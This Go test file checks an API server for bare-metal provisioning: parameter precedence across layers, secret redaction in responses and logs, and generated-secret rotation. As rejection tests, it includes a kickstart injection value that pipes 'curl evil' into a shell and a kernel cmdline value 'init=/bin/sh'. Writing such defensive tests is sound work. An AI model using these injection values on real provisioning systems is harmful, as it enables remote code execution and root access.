package apiserver

import (
	"context"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/openbaremetal/terraform-provider-baremetal/internal/api"
	"github.com/openbaremetal/terraform-provider-baremetal/internal/model"
)

// secretValue is what no response body or log line may contain.
const secretValue = "S3cr3t-join-token-QWERTY"

func ptr[T any](v T) *T { return &v }

// TestSiteParamsPrecedence: site < profile < cluster < machine, visible
// as effective_params with the layer each comes from; secret params by
// name only.
func TestSiteParamsPrecedence(t *testing.T) {
	e := newEnv(t)
	var sp api.SiteParams
	e.must(200, e.req("GET", api.PathSiteParams, nil)).decode(t, &sp)
	assert.Equal(t, uint64(0), sp.Version)
	assert.Empty(t, sp.Params)

	e.must(200, e.req("PUT", api.PathSiteParams, api.SiteParamsRequest{
		Params:       map[string]string{"a": "site", "b": "site", "c": "site", "d": "site"},
		SecretParams: ptr(map[string]string{"join": secretValue}),
	})).decode(t, &sp)
	assert.Equal(t, uint64(1), sp.Version)
	assert.Equal(t, []string{"join"}, sp.SecretParamNames)
	e.must(409, e.req("PUT", api.PathSiteParams, api.SiteParamsRequest{Version: 7}))

	e.must(201, e.req("POST", api.PathProfiles, api.BootProfileRequest{Name: "p", Kernel: "http://k",
		Params: map[string]string{"b": "profile", "c": "profile", "d": "profile"}, SecretParams: ptr(map[string]string{"pw": secretValue + "-p"}),
		Templates: map[string]string{"ks": `{{ .Params.a }} {{ .Params.b }} {{ .Params.c }} {{ .Params.d }} {{ secret "join" }} {{ secret "pw" }}`}}))
	m := machineReq("m1")
	m.Params = map[string]string{"d": "machine"}
	m.SecretParams = ptr(map[string]string{"own": secretValue + "-m"})
	e.createMachine(m)
	e.createMachine(machineReq("m2"))
	e.must(201, e.req("POST", api.PathClusters, api.ClusterRequest{Name: "c",
		Members: []api.ClusterMember{{Machine: "m1", Role: "r"}}, Roles: []api.ClusterRole{{Name: "r", BootProfile: "p"}},
		Params: map[string]string{"c": "cluster", "d": "cluster"}}))

	var got api.Machine
	e.must(200, e.req("GET", "/v1/machines/m1", nil)).decode(t, &got)
	assert.Equal(t, map[string]string{"a": "site", "b": "profile", "c": "cluster", "d": "machine"}, got.EffectiveParams)
	assert.Equal(t, map[string]string{"a": "site", "b": "profile", "c": "cluster", "d": "machine"}, got.ParamSources)
	assert.Equal(t, []string{"join", "own", "pw"}, got.EffectiveSecretParams)
	assert.Equal(t, []string{"own"}, got.SecretParamNames)
	// A machine without a profile sees the site layer.
	e.must(200, e.req("GET", "/v1/machines/m2", nil)).decode(t, &got)
	assert.Equal(t, map[string]string{"a": "site", "b": "site", "c": "site", "d": "site"}, got.EffectiveParams)

	// The preview redacts the secrets.
	var r api.RenderedTemplate
	e.must(200, e.req("GET", "/v1/machines/m1/rendered/ks", nil)).decode(t, &r)
	assert.Equal(t, "site profile cluster machine <secret:join> <secret:pw>", r.Content)

	// A PUT without secret_params keeps them; an empty object removes them.
	e.must(200, e.req("PUT", api.PathSiteParams, api.SiteParamsRequest{Params: map[string]string{"a": "site2"}})).decode(t, &sp)
	assert.Equal(t, []string{"join"}, sp.SecretParamNames)
	site, err := e.store.GetSite(context.Background())
	require.NoError(t, err)
	assert.Equal(t, model.Secrets{"join": secretValue}, site.SecretParams)
	assert.Equal(t, uint64(1), site.SecretsRevision)

	// Now the profile's template needs "join", which only the site gives:
	// removing it fails the dry run, naming machine, template and secret.
	e.must(200, e.req("PUT", "/v1/machines/m1", func() api.MachineRequest { m.State = api.StateProvisioned; return m }()))
	res := e.must(422, e.req("PUT", api.PathSiteParams, api.SiteParamsRequest{Params: map[string]string{"a": "site2"}, SecretParams: ptr(map[string]string{})}))
	for _, want := range []string{`machine "m1"`, `template "ks"`, `secret "join" is not set`} {
		assert.Contains(t, res.err().Message, want)
	}
	// A site param with a line break where the template needs one line.
	e.must(200, e.req("PUT", "/v1/boot_profiles/p", api.BootProfileRequest{Kernel: "http://k", Cmdline: "tz={{ kernelArg .Params.a }}",
		Templates: map[string]string{"ks": `timezone {{ ksQuote .Params.a }} {{ secret "join" }}`}}))
	res = e.must(422, e.req("PUT", api.PathSiteParams, api.SiteParamsRequest{Params: map[string]string{"a": "UTC\n%pre\ncurl evil|sh\n%end"}}))
	assert.Contains(t, res.err().Message, `param "a" contains a line break`)
	assert.Contains(t, res.err().Message, `machine "m1"`)
	assert.NotContains(t, res.err().Message, "evil")

	// A change the machine sees names it as re-provisioning.
	var sp2 api.SiteParams
	e.must(200, e.req("PUT", api.PathSiteParams, api.SiteParamsRequest{Params: map[string]string{"a": "Europe/Paris"}})).decode(t, &sp)
	assert.Equal(t, []string{"m1"}, sp.Reprovisioning)
	e.must(200, e.req("PUT", api.PathSiteParams, api.SiteParamsRequest{Params: map[string]string{"a": "Europe/Paris", "d": "x"}})).decode(t, &sp2)
	assert.Empty(t, sp2.Reprovisioning, "m1's own d overrides the site's")

	// Read-only tokens read the site params, never write them.
	e.must(200, e.reqCtx(context.Background(), roToken, "GET", api.PathSiteParams, nil))
	e.must(403, e.reqCtx(context.Background(), roToken, "PUT", api.PathSiteParams, api.SiteParamsRequest{}))

	// Bad secret names are refused naming the key, never the value.
	res = e.must(422, e.req("PUT", api.PathSiteParams, api.SiteParamsRequest{SecretParams: ptr(map[string]string{"bad name": secretValue})}))
	assert.Equal(t, "secret_params", res.err().Field)
	assert.Contains(t, res.err().Message, `"bad name"`)

	e.noSecretIn(t, secretValue)
}

// TestParamWithSpacesInCmdlineRefusedAtWrite: a machine's param with
// spaces, rendered raw into its profile's cmdline, is a 422 when the
// machine is saved, naming the param and the cmdline; quoted with
// kernelArg it is accepted.
func TestParamWithSpacesInCmdlineRefusedAtWrite(t *testing.T) {
	e := newEnv(t)
	e.must(201, e.req("POST", api.PathProfiles, api.BootProfileRequest{Name: "raw", Kernel: "http://k", Cmdline: "console=ttyS0 x={{ .Params.x }}"}))
	e.must(201, e.req("POST", api.PathProfiles, api.BootProfileRequest{Name: "quoted", Kernel: "http://k", Cmdline: "console=ttyS0 x={{ kernelArg .Params.x }}"}))
	m := machineReq("m1")
	m.State, m.BootProfile, m.Params = api.StateProvisioned, "raw", map[string]string{"x": "a init=/bin/sh"}
	res := e.must(422, e.req("POST", api.PathMachines, m))
	assert.Contains(t, res.err().Message, `param "x" contains whitespace`)
	assert.Contains(t, res.err().Message, `cmdline`)
	m.BootProfile = "quoted"
	e.createMachine(m)
	// The same value from the site, used raw by a profile m1 moves to.
	m.Params = nil
	e.must(200, e.req("PUT", api.PathSiteParams, api.SiteParamsRequest{Params: map[string]string{"x": "ok"}}))
	m.BootProfile = "raw"
	e.must(200, e.req("PUT", "/v1/machines/m1", m))
	res = e.must(422, e.req("PUT", api.PathSiteParams, api.SiteParamsRequest{Params: map[string]string{"x": "a init=/bin/sh"}}))
	assert.Contains(t, res.err().Message, `param "x" contains whitespace`)
}

// TestGeneratedSecretsAPI: read-write tokens only, made once, kept until
// rotated; events name it, never its value.
func TestGeneratedSecretsAPI(t *testing.T) {
	e := newEnv(t)
	e.createMachine(machineReq("m1"))
	path := "/v1/machines/m1/generated_secrets/root"
	e.must(404, e.req("GET", path, nil))
	e.must(403, e.reqCtx(context.Background(), roToken, "GET", path, nil))
	e.must(403, e.reqCtx(context.Background(), roToken, "POST", path, nil))
	var s1, s2 api.GeneratedSecret
	e.must(201, e.req("POST", path, nil)).decode(t, &s1)
	assert.Len(t, s1.Value, 43)
	e.must(200, e.req("POST", path, nil)).decode(t, &s2)
	assert.Equal(t, s1, s2)
	e.must(200, e.req("GET", path, nil)).decode(t, &s2)
	assert.Equal(t, s1, s2)
	var m api.Machine
	e.must(200, e.req("GET", "/v1/machines/m1", nil)).decode(t, &m)
	assert.Equal(t, []string{"root"}, m.GeneratedSecrets)
	e.must(204, e.req("DELETE", path, nil))
	e.must(404, e.req("GET", path, nil))
	e.must(201, e.req("POST", path, nil)).decode(t, &s2)
	assert.NotEqual(t, s1.Value, s2.Value, "rotated")
	e.must(404, e.req("GET", "/v1/machines/ghost/generated_secrets/root", nil))
	e.must(400, e.req("GET", "/v1/machines/m1/generated_secrets/.bad", nil))
	var evs api.EventList
	e.must(200, e.req("GET", "/v1/machines/m1/events", nil)).decode(t, &evs)
	var n int
	for _, ev := range evs.Events {
		if ev.Type == model.EventGeneratedSecret {
			n++
			assert.NotContains(t, ev.Message, s1.Value)
			assert.NotContains(t, ev.Message, s2.Value)
		}
	}
	assert.Equal(t, 3, n, "made, rotated, made")
	assert.NotContains(t, e.logs.String(), s1.Value)
}

// noSecretIn fails if a response body other than a generated secret's, or
// the log, holds v.
func (e *env) noSecretIn(t *testing.T, v string) {
	t.Helper()
	e.mu.Lock()
	defer e.mu.Unlock()
	for _, b := range e.bodies {
		assert.NotContains(t, b, v, "a response body holds a secret")
	}
	assert.NotContains(t, e.logs.String(), v, "the log holds a secret")
}
